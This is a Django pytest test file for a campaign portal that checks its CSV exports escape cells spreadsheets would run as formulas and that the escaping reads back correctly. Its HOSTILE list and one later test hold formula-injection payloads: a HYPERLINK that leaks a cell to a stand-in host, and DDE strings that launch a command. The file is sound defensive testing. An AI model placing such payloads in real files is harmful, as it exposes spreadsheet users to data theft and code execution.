"""Every CSV the portal writes neutralises cells a spreadsheet would run as formulas, and the
escaping reads back to the value that was written."""

from __future__ import annotations

import csv
import datetime as dt
import io
from typing import Any

import pytest
from django.contrib.auth import get_user_model
from django.test import Client
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st

from campaigns.models import RejectedRow
from campaigns.spreadsheets import FORMULA_STARTS, csv_cell, csv_cell_read, csv_dict_lines, csv_lines
from tests.campaigns.dashboard_factories import make_campaign

# What the security review put in client names and phones, and their cousins.
HOSTILE = [
    '=HYPERLINK("https://evil.example/?leak="&A1, "Pay here")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "+12125550147",
    "-12.50",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
]
HARMLESS = ["Ada Lovelace", "O'Brien", "", "1 = 1", "a,b", 'say "hi"', "12.50"]


def _opened_as_a_spreadsheet_would(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("value", HOSTILE)
def test_a_cell_a_spreadsheet_would_run_is_neutralised(value: str) -> None:
    [[cell]] = _opened_as_a_spreadsheet_would("".join(csv_lines([[value]])))
    assert not cell.startswith(FORMULA_STARTS)
    assert cell == "'" + value
    assert csv_cell_read(cell) == value


@pytest.mark.parametrize("value", HARMLESS)
def test_other_cells_are_written_as_they_are(value: str) -> None:
    assert csv_cell(value) == value
    [row] = _opened_as_a_spreadsheet_would("".join(csv_lines([[value, 1]])))
    assert row == [value, "1"]


@given(st.lists(st.one_of(st.none(), st.integers(), st.text(alphabet=st.characters(blacklist_categories=["Cs"]))), min_size=1, max_size=6))
def test_what_is_written_reads_back(values: list[Any]) -> None:
    [row] = _opened_as_a_spreadsheet_would("".join(csv_lines([values])))
    assert [csv_cell_read(cell) for cell in row] == ["" if v is None else str(v) for v in values]
    assert not any(cell.startswith(FORMULA_STARTS) for cell in row)


def test_dict_lines_write_a_header_and_rows_in_its_order() -> None:
    text = "".join(csv_dict_lines([{"client_name": "=cmd", "phone": "+12125550147"}, {"client_name": "Bo"}], fieldnames=["phone", "client_name"]))
    assert _opened_as_a_spreadsheet_would(text) == [["phone", "client_name"], ["'+12125550147", "'=cmd"], ["", "Bo"]]


@pytest.mark.django_db
def test_the_rejected_rows_download_neutralises_every_formula() -> None:
    campaign = make_campaign(date=dt.date(2025, 6, 10))
    for number, value in enumerate(HOSTILE, start=1):
        RejectedRow.objects.create(
            campaign=campaign, row_number=number, client_id=value, reason="phone is not a phone number",
            row={"client_id": value, "name": value, "phone": value, "segment": "RED Initial", "amount_due": value},
        )  # fmt: skip
    staff = Client()
    staff.force_login(get_user_model().objects.create_superuser("csv.reader", password="pw-for-tests-1"))
    response = staff.get(reverse("admin:campaigns_campaign_rejected_csv", args=[campaign.pk]))
    assert response.status_code == 200
    header, *rows = _opened_as_a_spreadsheet_would(b"".join(response.streaming_content).decode())
    assert len(rows) == len(HOSTILE)
    for row in rows:
        assert not [cell for cell in row if cell.startswith(FORMULA_STARTS)], row
    by_column = [dict(zip(header, row)) for row in rows]
    assert [csv_cell_read(row["name"]) for row in by_column] == HOSTILE
    assert [csv_cell_read(row["client_id"]) for row in by_column] == HOSTILE


def test_the_reconciled_file_neutralises_client_names(db, tmp_path, settings) -> None:  # type: ignore[no-untyped-def]
    import csv as csv_module
    import datetime as dt

    from campaigns.compliance.ledger import ledger_record
    from campaigns.lifecycle import campaign as lifecycle
    from campaigns.models import Account, Campaign
    from campaigns.spreadsheets import csv_cell_read

    settings.RECONCILED_FILE_DIR = tmp_path
    day = dt.date(2026, 12, 1)
    campaign = Campaign.objects.create(date=day, status=Campaign.Status.STOPPED)
    now = dt.datetime(2026, 12, 1, 15, 0, tzinfo=dt.timezone.utc)
    for n, name in enumerate(["=HYPERLINK(\"http://x\")", "@SUM(A1)", "-2+3+cmd|' /C calc'!A0"]):
        Account.objects.create(client_id=f"F{n}", name=name, phone=f"+1212555017{n}", first_seen_at=now, last_seen_at=now)
        ledger_record(client_id=f"F{n}", phone=f"+1212555017{n}", kind="inbound_call", reference=f"in-{n}", occurred_at=now)
    path, rows = lifecycle.reconciled_file_write(campaign=campaign)
    with path.open(newline="") as handle:
        names = [row["client_name"] for row in csv_module.DictReader(handle)]
    assert rows == 3
    assert all(name.startswith("'") for name in names)
    assert sorted(csv_cell_read(name) for name in names) == sorted(["=HYPERLINK(\"http://x\")", "@SUM(A1)", "-2+3+cmd|' /C calc'!A0"])
